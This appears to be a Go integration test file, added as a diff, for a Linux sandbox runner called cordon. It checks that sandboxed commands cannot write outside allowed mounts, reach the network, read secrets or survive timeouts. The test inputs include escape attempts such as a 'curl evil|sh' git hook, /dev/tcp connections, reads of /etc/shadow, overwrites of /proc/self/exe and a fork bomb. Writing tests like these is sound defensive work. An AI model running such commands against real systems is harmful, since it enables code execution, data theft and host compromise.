@@ -1,0 +1,659 @@
+package runner_test
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/cordon-run/cordon/runner"
+	"github.com/cordon-run/cordon/spec"
+)
+
+// TestMain carries libcontainer's init hook: this test binary re-executes
+// itself as the container's init.
+func TestMain(m *testing.M) {
+	runner.Init()
+	if os.Getenv("CORDON_TEST_HELPER") == "run-forever" {
+		helperRunForever()
+		return
+	}
+	os.Exit(m.Run())
+}
+
+func isRoot() bool { return os.Geteuid() == 0 }
+
+// requireRoot skips a test that needs root, unless CI=true, where a missing
+// privilege is a failure. The rootless CI pass (CORDON_ROOTLESS=1) runs the
+// same binary unprivileged on purpose and checks the fail-closed behaviour
+// in the tests that branch on isRoot instead.
+func requireRoot(t *testing.T) {
+	t.Helper()
+	if isRoot() {
+		return
+	}
+	if os.Getenv("CI") == "true" && os.Getenv("CORDON_ROOTLESS") != "1" {
+		t.Fatalf("this test needs root and CI=true forbids skipping it")
+	}
+	t.Skip("needs root (host submounts or cgroup limits); the root pass of `make test` covers it")
+}
+
+// requireSandbox fails or skips when this host cannot build a sandbox at all.
+func requireSandbox(t *testing.T) {
+	t.Helper()
+	for _, c := range runner.Doctor() {
+		if c.Name == "user namespaces" && !c.OK && !isRoot() {
+			if os.Getenv("CI") == "true" {
+				t.Fatalf("user namespaces are unavailable and CI=true forbids skipping: %s", c.Detail)
+			}
+			t.Skipf("user namespaces unavailable: %s", c.Detail)
+		}
+	}
+}
+
+func newSandbox(t *testing.T) *spec.Sandbox {
+	t.Helper()
+	requireSandbox(t)
+	root := t.TempDir()
+	return &spec.Sandbox{
+		Root:             root,
+		System:           spec.System{Kind: spec.SystemHost},
+		RequireOSSandbox: true,
+		Env:              spec.Env{Pass: []string{"PATH"}},
+		Protect:          []string{filepath.Join(root, ".git/hooks"), filepath.Join(root, ".git/config")},
+	}
+}
+
+type runOut struct {
+	res            runner.Result
+	stdout, stderr string
+}
+
+func run(t *testing.T, sb *spec.Sandbox, stdin string, args ...string) runOut {
+	t.Helper()
+	r, err := runner.New(runner.Options{StateDir: stateDir(t)})
+	if err != nil {
+		t.Fatalf("runner.New: %v", err)
+	}
+	var so, se bytes.Buffer
+	req := runner.Request{Sandbox: sb, Args: args, Stdout: &so, Stderr: &se}
+	if stdin != "" {
+		req.Stdin = strings.NewReader(stdin)
+	}
+	res, err := r.Run(context.Background(), req)
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	t.Logf("%v -> exit %d %s %q; stderr: %s", args, res.ExitCode, res.FailureType, res.FailureDetail, se.String())
+	return runOut{res, so.String(), se.String()}
+}
+
+var (
+	stateOnce sync.Once
+	stateRoot string
+)
+
+// stateDir is one state directory for the whole test binary, so that tests
+// also exercise concurrent runs sharing it.
+func stateDir(t *testing.T) string {
+	stateOnce.Do(func() {
+		d, err := os.MkdirTemp("", "cordon-state-")
+		if err != nil {
+			panic(err)
+		}
+		stateRoot = d
+	})
+	return stateRoot
+}
+
+func sh(script string) []string { return []string{"/bin/sh", "-c", script} }
+
+func mustNotExist(t *testing.T, p string) {
+	t.Helper()
+	if _, err := os.Lstat(p); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("%s exists on the host after the run (err=%v): the sandbox let it through", p, err)
+	}
+}
+
+func TestIntegrationRunsAndStreams(t *testing.T) {
+	sb := newSandbox(t)
+	out := run(t, sb, "hello from stdin\n", "/bin/cat")
+	if out.res.ExitCode != 0 || out.res.FailureType != runner.FailureNone {
+		t.Fatalf("cat failed: %+v", out.res)
+	}
+	if out.stdout != "hello from stdin\n" {
+		t.Fatalf("stdout = %q", out.stdout)
+	}
+}
+
+func TestIntegrationExitCodes(t *testing.T) {
+	sb := newSandbox(t)
+	if err := os.WriteFile(filepath.Join(sb.Root, "notexec"), []byte("#!/bin/sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		name string
+		args []string
+		code int
+		ft   runner.FailureType
+	}{
+		{"own status", sh("exit 3"), 3, runner.FailureProcessError},
+		{"not found", []string{"no-such-command-cordon"}, 127, runner.FailureProcessError},
+		{"not executable", []string{filepath.Join(sb.Root, "notexec")}, 126, runner.FailureProcessError},
+		{"success", []string{"true"}, 0, runner.FailureNone},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			out := run(t, sb, "", tc.args...)
+			if out.res.ExitCode != tc.code || out.res.FailureType != tc.ft {
+				t.Fatalf("got exit %d %s, want %d %s", out.res.ExitCode, out.res.FailureType, tc.code, tc.ft)
+			}
+		})
+	}
+}
+
+func TestIntegrationWriteOutsideRWMounts(t *testing.T) {
+	sb := newSandbox(t)
+	outside := t.TempDir() // a host dir the sandbox does not mount
+	cases := []struct{ name, path string }{
+		{"system dir", "/usr/cordon-escape-" + strconv.Itoa(os.Getpid())},
+		{"unmounted host dir", filepath.Join(outside, "x")},
+		{"etc", "/etc/cordon-escape-" + strconv.Itoa(os.Getpid())},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			out := run(t, sb, "", sh("echo pwned > "+tc.path)...)
+			if out.res.ExitCode == 0 {
+				t.Fatalf("write to %s succeeded", tc.path)
+			}
+			if out.res.FailureType != runner.FailureSandboxDenied || out.res.BlockedPath != tc.path {
+				t.Fatalf("want sandbox_denied on %s, got %s %q (%s)", tc.path, out.res.FailureType, out.res.BlockedPath, out.res.FailureDetail)
+			}
+			if !strings.Contains(out.res.FailureDetail, sb.Root) {
+				t.Fatalf("the message must say what IS writable (%s): %q", sb.Root, out.res.FailureDetail)
+			}
+			mustNotExist(t, tc.path)
+		})
+	}
+}
+
+func TestIntegrationWorkspaceDataIntact(t *testing.T) {
+	sb := newSandbox(t)
+	keep := filepath.Join(sb.Root, "keep.txt")
+	if err := os.WriteFile(keep, []byte("precious\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out := run(t, sb, "", sh("mkdir -p sub && echo written > sub/new.txt && cat keep.txt")...)
+	if out.res.ExitCode != 0 || out.stdout != "precious\n" {
+		t.Fatalf("run failed: %+v stdout=%q", out.res, out.stdout)
+	}
+	data, err := os.ReadFile(filepath.Join(sb.Root, "sub/new.txt"))
+	if err != nil || string(data) != "written\n" {
+		t.Fatalf("written file: %q %v", data, err)
+	}
+	if b, _ := os.ReadFile(keep); string(b) != "precious\n" {
+		t.Fatalf("existing file changed: %q", b)
+	}
+	fi, err := os.Stat(filepath.Join(sb.Root, "sub/new.txt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st := fi.Sys().(*syscall.Stat_t); int(st.Uid) != os.Getuid() || int(st.Gid) != os.Getgid() {
+		t.Fatalf("file written in the sandbox belongs to %d:%d, want the caller %d:%d", st.Uid, st.Gid, os.Getuid(), os.Getgid())
+	}
+}
+
+func TestIntegrationReadonlyMount(t *testing.T) {
+	sb := newSandbox(t)
+	ro := t.TempDir()
+	if err := os.WriteFile(filepath.Join(ro, "data"), []byte("orig"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	sb.Mounts = []spec.Mount{{Source: ro, Target: ro, Readonly: true, Name: "data"}}
+	out := run(t, sb, "", sh("cat "+ro+"/data && echo changed > "+ro+"/data")...)
+	if out.res.ExitCode == 0 || out.stdout != "orig" {
+		t.Fatalf("read-only mount: %+v stdout=%q", out.res, out.stdout)
+	}
+	if out.res.FailureType != runner.FailureSandboxDenied || out.res.BlockedPath != ro+"/data" {
+		t.Fatalf("want sandbox_denied on %s/data: %+v", ro, out.res)
+	}
+	if b, _ := os.ReadFile(filepath.Join(ro, "data")); string(b) != "orig" {
+		t.Fatalf("read-only file changed: %q", b)
+	}
+	out = run(t, sb, "", sh("touch "+ro+"/new")...)
+	if out.res.ExitCode == 0 {
+		t.Fatal("created a file in a read-only mount")
+	}
+	mustNotExist(t, filepath.Join(ro, "new"))
+}
+
+func TestIntegrationReadonlySubmounts(t *testing.T) {
+	requireRoot(t)
+	sb := newSandbox(t)
+	ro := t.TempDir()
+	sub := filepath.Join(ro, "sub")
+	if err := os.Mkdir(sub, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := syscall.Mount("tmpfs", sub, "tmpfs", 0, "size=1m"); err != nil {
+		t.Fatalf("mount host submount: %v", err)
+	}
+	t.Cleanup(func() { _ = syscall.Unmount(sub, syscall.MNT_DETACH) })
+	sb.Mounts = []spec.Mount{{Source: ro, Target: ro, Readonly: true}}
+	out := run(t, sb, "", sh("echo x > "+sub+"/escaped")...)
+	if out.res.ExitCode == 0 {
+		t.Fatal("wrote into a submount of a read-only mount")
+	}
+	mustNotExist(t, filepath.Join(sub, "escaped"))
+}
+
+func TestIntegrationDenyAndProtect(t *testing.T) {
+	sb := newSandbox(t)
+	secret := filepath.Join(sb.Root, ".env")
+	if err := os.WriteFile(secret, []byte("TOKEN=hunter2\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	secretsDir := filepath.Join(sb.Root, "secrets")
+	if err := os.Mkdir(secretsDir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(secretsDir, "key"), []byte("KEY"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	sb.Deny = []string{secret, secretsDir}
+	// .git/hooks and .git/config are protected (newSandbox) and missing.
+
+	t.Run("deny hides content", func(t *testing.T) {
+		out := run(t, sb, "", sh("cat .env; ls secrets; cat secrets/key")...)
+		if strings.Contains(out.stdout, "hunter2") || strings.Contains(out.stdout, "KEY") {
+			t.Fatalf("denied content leaked: %q", out.stdout)
+		}
+	})
+	t.Run("deny is unwritable", func(t *testing.T) {
+		out := run(t, sb, "", sh("echo evil > .env")...)
+		if out.res.ExitCode == 0 {
+			t.Fatal("wrote to a denied file")
+		}
+		if b, _ := os.ReadFile(secret); string(b) != "TOKEN=hunter2\n" {
+			t.Fatalf("denied file changed: %q", b)
+		}
+		out = run(t, sb, "", sh("echo evil > secrets/new")...)
+		if out.res.ExitCode == 0 {
+			t.Fatal("wrote into a denied directory")
+		}
+		mustNotExist(t, filepath.Join(secretsDir, "new"))
+	})
+	t.Run("protect missing at start", func(t *testing.T) {
+		hook := filepath.Join(sb.Root, ".git/hooks/pre-commit")
+		out := run(t, sb, "", sh("mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit")...)
+		if out.res.ExitCode == 0 {
+			t.Fatal("created a hook in a protected path")
+		}
+		if out.res.FailureType != runner.FailureSandboxDenied {
+			t.Fatalf("want sandbox_denied: %+v", out.res)
+		}
+		mustNotExist(t, hook)
+		// The placeholders cordon made are gone: the workspace looks as it did.
+		mustNotExist(t, filepath.Join(sb.Root, ".git"))
+	})
+	t.Run("protect existing is readable not writable", func(t *testing.T) {
+		cfg := filepath.Join(sb.Root, ".git/config")
+		if err := os.MkdirAll(filepath.Dir(cfg), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(cfg, []byte("[core]\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		out := run(t, sb, "", sh("cat .git/config && echo '[alias] x = !evil' >> .git/config")...)
+		if out.res.ExitCode == 0 || out.stdout != "[core]\n" {
+			t.Fatalf("protect: %+v stdout=%q", out.res, out.stdout)
+		}
+		if b, _ := os.ReadFile(cfg); string(b) != "[core]\n" {
+			t.Fatalf("protected file changed: %q", b)
+		}
+		// Renaming a parent away must not defeat the protection either.
+		out = run(t, sb, "", sh("mv .git .git-moved && echo evil > .git-moved/config")...)
+		if b, _ := os.ReadFile(cfg); string(b) != "[core]\n" {
+			t.Fatalf("protected file changed through a rename: %q", b)
+		}
+		mustNotExist(t, filepath.Join(sb.Root, ".git-moved"))
+	})
+}
+
+func TestIntegrationSymlinksOut(t *testing.T) {
+	sb := newSandbox(t)
+	if err := os.Symlink("/etc", filepath.Join(sb.Root, "l")); err != nil {
+		t.Fatal(err)
+	}
+	outside := t.TempDir()
+	if err := os.WriteFile(filepath.Join(outside, "secret"), []byte("outside-secret"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(sb.Root, "r")); err != nil {
+		t.Fatal(err)
+	}
+	out := run(t, sb, "", sh("echo x > l/cordon-escape")...)
+	if out.res.ExitCode == 0 {
+		t.Fatal("wrote through a symlink to /etc")
+	}
+	mustNotExist(t, "/etc/cordon-escape")
+	out = run(t, sb, "", sh("cat r/secret; echo x > r/new")...)
+	if strings.Contains(out.stdout, "outside-secret") {
+		t.Fatal("read through a symlink out of the sandbox")
+	}
+	mustNotExist(t, filepath.Join(outside, "new"))
+}
+
+func TestIntegrationNetworkOff(t *testing.T) {
+	sb := newSandbox(t)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	var mu sync.Mutex
+	accepted := 0
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			mu.Lock()
+			accepted++
+			mu.Unlock()
+			c.Close()
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+	out := run(t, sb, "", "/bin/bash", "-c", fmt.Sprintf("echo hi > /dev/tcp/127.0.0.1/%d", port))
+	if out.res.ExitCode == 0 {
+		t.Fatal("connected to a host loopback listener with network: false")
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if accepted != 0 {
+		t.Fatalf("the host listener accepted %d connections", accepted)
+	}
+	if out.res.FailureType != runner.FailureSandboxDenied && !strings.Contains(out.stderr, "refused") {
+		t.Fatalf("unexpected failure: %+v", out.res)
+	}
+}
+
+func TestIntegrationPidIsolation(t *testing.T) {
+	sb := newSandbox(t)
+	out := run(t, sb, "", sh("echo $$; test -e /proc/"+strconv.Itoa(os.Getpid())+" && echo HOSTPID-VISIBLE; ls /proc | grep -c '^[0-9]'")...)
+	if out.res.ExitCode != 0 {
+		t.Fatalf("run failed: %+v", out.res)
+	}
+	lines := strings.Fields(out.stdout)
+	if len(lines) < 2 || lines[0] != "1" {
+		t.Fatalf("the command should be PID 1 of its own namespace: %q", out.stdout)
+	}
+	if strings.Contains(out.stdout, "HOSTPID-VISIBLE") {
+		t.Fatal("a host process is visible in the sandbox")
+	}
+	if n, _ := strconv.Atoi(lines[len(lines)-1]); n > 5 {
+		t.Fatalf("%d processes visible in the sandbox", n)
+	}
+}
+
+func TestIntegrationForkBombVsPids(t *testing.T) {
+	sb := newSandbox(t)
+	sb.Limits.Pids = 32
+	sb.Limits.Timeout = 20 * time.Second
+	script := "i=0; while [ $i -lt 200 ]; do sleep 30 & i=$((i+1)); done; echo spawned-all"
+	if !isRoot() {
+		out := run(t, sb, "", sh(script)...)
+		if out.res.FailureType != runner.FailureSetupError || out.res.ExitCode != runner.ExitSetupError {
+			t.Fatalf("rootless with a pids limit must fail closed: %+v", out.res)
+		}
+		return
+	}
+	out := run(t, sb, "", sh(script)...)
+	if strings.Contains(out.stdout, "spawned-all") && out.res.ExitCode == 0 {
+		t.Fatalf("200 processes spawned under pids=32")
+	}
+	if !strings.Contains(strings.ToLower(out.stderr), "resource temporarily unavailable") && !strings.Contains(out.stderr, "fork") {
+		t.Fatalf("expected fork failures on stderr, got %q", out.stderr)
+	}
+}
+
+func TestIntegrationMemoryOOM(t *testing.T) {
+	sb := newSandbox(t)
+	sb.Limits.Memory = 32 << 20
+	sb.Limits.Timeout = 60 * time.Second
+	hog := []string{"python3", "-c", "b = bytearray(256 * 1024 * 1024); print('allocated')"}
+	if !isRoot() {
+		out := run(t, sb, "", hog...)
+		if out.res.FailureType != runner.FailureSetupError {
+			t.Fatalf("rootless with a memory limit must fail closed: %+v", out.res)
+		}
+		sb.RequireOSSandbox = false
+		out = run(t, sb, "", "true")
+		if out.res.ExitCode != 0 || len(out.res.Unenforced) == 0 || !strings.Contains(out.stderr, "not enforced") {
+			t.Fatalf("degraded run must say what was not enforced: %+v stderr=%q", out.res, out.stderr)
+		}
+		return
+	}
+	out := run(t, sb, "", hog...)
+	if out.res.FailureType != runner.FailureOOM {
+		t.Fatalf("want oom, got %+v stdout=%q", out.res, out.stdout)
+	}
+	if strings.Contains(out.stdout, "allocated") {
+		t.Fatal("the allocation succeeded")
+	}
+}
+
+// sandboxedSleepers counts host processes whose command line carries marker.
+func sandboxedSleepers(marker string) int {
+	n := 0
+	ents, _ := os.ReadDir("/proc")
+	for _, e := range ents {
+		if _, err := strconv.Atoi(e.Name()); err != nil {
+			continue
+		}
+		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
+		if err == nil && bytes.Contains(b, []byte(marker)) {
+			n++
+		}
+	}
+	return n
+}
+
+func TestIntegrationTimeoutKillsDescendants(t *testing.T) {
+	sb := newSandbox(t)
+	sb.Limits.Timeout = 1500 * time.Millisecond
+	marker := "1000." + strconv.Itoa(os.Getpid())
+	script := fmt.Sprintf("setsid sleep %s & (sleep %s &) & nohup sleep %s >/dev/null 2>&1 & sleep %s", marker, marker, marker, marker)
+	start := time.Now()
+	out := run(t, sb, "", sh(script)...)
+	t.Logf("returned after %s", time.Since(start))
+	if out.res.FailureType != runner.FailureTimeout || out.res.ExitCode != runner.ExitTimeout {
+		t.Fatalf("want timeout/124, got %+v", out.res)
+	}
+	if n := sandboxedSleepers(marker); n != 0 {
+		t.Fatalf("%d sandboxed processes survived the timeout", n)
+	}
+}
+
+func TestIntegrationNoFDLeak(t *testing.T) {
+	sb := newSandbox(t)
+	// An inheritable descriptor in cordon's process must not reach the sandbox.
+	fd, err := syscall.Open("/etc/hostname", syscall.O_RDONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer syscall.Close(fd)
+	out := run(t, sb, "", sh("ls /proc/self/fd")...)
+	if out.res.ExitCode != 0 {
+		t.Fatalf("run failed: %+v", out.res)
+	}
+	for _, f := range strings.Fields(out.stdout) {
+		n, _ := strconv.Atoi(f)
+		if n > 3 { // 0-2 stdio, 3 is ls's own directory handle
+			t.Fatalf("descriptor %d leaked into the sandbox: %q", n, out.stdout)
+		}
+	}
+}
+
+func TestIntegrationSecretsMasked(t *testing.T) {
+	sb := newSandbox(t)
+	out := run(t, sb, "", sh("cat /etc/shadow; ls /root; ls /home")...)
+	if strings.Contains(out.stdout, "root:") {
+		t.Fatalf("/etc/shadow readable: %q", out.stdout)
+	}
+	if host, err := os.ReadDir("/root"); err == nil && len(host) > 0 {
+		for _, e := range host {
+			if strings.Contains(out.stdout, e.Name()) && e.Name() != "" && len(e.Name()) > 3 {
+				t.Fatalf("/root content %q visible in the sandbox: %q", e.Name(), out.stdout)
+			}
+		}
+	}
+}
+
+func TestIntegrationProcSelfExeCannotBeOverwritten(t *testing.T) {
+	sb := newSandbox(t)
+	self, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	before := fileHash(t, self)
+	out := run(t, sb, "", sh("echo pwned > /proc/self/exe; for p in /proc/[0-9]*; do echo pwned > $p/exe; done; true")...)
+	if out.res.ExitCode != 0 {
+		t.Logf("run: %+v", out.res)
+	}
+	if after := fileHash(t, self); after != before {
+		t.Fatal("the host binary changed")
+	}
+}
+
+func fileHash(t *testing.T, p string) [32]byte {
+	t.Helper()
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return sha256.Sum256(b)
+}
+
+func TestIntegrationConcurrentRuns(t *testing.T) {
+	sb := newSandbox(t)
+	var wg sync.WaitGroup
+	errs := make(chan string, 8)
+	for i := 0; i < 6; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			r, err := runner.New(runner.Options{StateDir: stateDir(t)})
+			if err != nil {
+				errs <- err.Error()
+				return
+			}
+			var so bytes.Buffer
+			res, err := r.Run(context.Background(), runner.Request{Sandbox: sb, Args: sh(fmt.Sprintf("echo %d > f%d && cat f%d", i, i, i)), Stdout: &so})
+			if err != nil || res.ExitCode != 0 || strings.TrimSpace(so.String()) != strconv.Itoa(i) {
+				errs <- fmt.Sprintf("run %d: %v %+v %q", i, err, res, so.String())
+			}
+		}(i)
+	}
+	wg.Wait()
+	close(errs)
+	for e := range errs {
+		t.Error(e)
+	}
+}
+
+// helperRunForever is the body of a child process that runs a long sandboxed
+// command and is then SIGKILLed by TestIntegrationLeftoversAfterSIGKILL.
+func helperRunForever() {
+	sb := &spec.Sandbox{
+		Root:             os.Getenv("CORDON_TEST_ROOT"),
+		System:           spec.System{Kind: spec.SystemHost},
+		RequireOSSandbox: true,
+		Env:              spec.Env{Pass: []string{"PATH"}},
+		Protect:          []string{filepath.Join(os.Getenv("CORDON_TEST_ROOT"), ".git/hooks")},
+	}
+	r, err := runner.New(runner.Options{StateDir: os.Getenv("CORDON_TEST_STATE")})
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(3)
+	}
+	_, _ = r.Run(context.Background(), runner.Request{Sandbox: sb, Args: sh("touch started; exec sleep " + os.Getenv("CORDON_TEST_MARKER")), Stdout: os.Stdout, Stderr: os.Stderr})
+	os.Exit(0)
+}
+
+func TestIntegrationLeftoversAfterSIGKILL(t *testing.T) {
+	sb := newSandbox(t)
+	state, err := os.MkdirTemp("", "cordon-killed-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(state)
+	marker := "2000." + strconv.Itoa(os.Getpid())
+	cmd := exec.Command(os.Args[0], "-test.run", "^$")
+	cmd.Env = append(os.Environ(), "CORDON_TEST_HELPER=run-forever", "CORDON_TEST_ROOT="+sb.Root,
+		"CORDON_TEST_STATE="+state, "CORDON_TEST_MARKER="+marker)
+	var stderr bytes.Buffer
+	cmd.Stderr = &stderr
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	started := filepath.Join(sb.Root, "started")
+	for i := 0; ; i++ {
+		if _, err := os.Stat(started); err == nil && sandboxedSleepers(marker) > 0 {
+			break
+		}
+		if i > 600 {
+			_ = cmd.Process.Kill()
+			t.Fatalf("the sandboxed command never started: %s", stderr.String())
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	runs, _ := os.ReadDir(filepath.Join(state, "runs"))
+	if len(runs) != 1 {
+		t.Fatalf("want one run dir while running, got %d", len(runs))
+	}
+	id := runs[0].Name()
+	if err := cmd.Process.Signal(syscall.SIGKILL); err != nil {
+		t.Fatal(err)
+	}
+	_ = cmd.Wait()
+	// The sandbox dies with cordon (parent-death signal + PID namespace).
+	for i := 0; sandboxedSleepers(marker) > 0; i++ {
+		if i > 200 {
+			t.Fatal("the sandboxed command survived the SIGKILL of cordon")
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	// The next run cleans up what the killed one left behind.
+	r, err := runner.New(runner.Options{StateDir: state})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res, err := r.Run(context.Background(), runner.Request{Sandbox: sb, Args: []string{"true"}}); err != nil || res.ExitCode != 0 {
+		t.Fatalf("next run: %v %+v", err, res)
+	}
+	for _, p := range []string{filepath.Join(state, "runs", id), filepath.Join(state, "lc", id)} {
+		mustNotExist(t, p)
+	}
+	if isRoot() {
+		for _, ctrl := range []string{"memory", "pids", "cpu", "freezer"} {
+			mustNotExist(t, filepath.Join("/sys/fs/cgroup", ctrl, "cordon", id))
+		}
+	}
+	mustNotExist(t, filepath.Join(sb.Root, ".git"))
+	if left, _ := os.ReadDir(filepath.Join(state, "runs")); len(left) != 0 {
+		t.Fatalf("run dirs left behind: %v", left)
+	}
+}
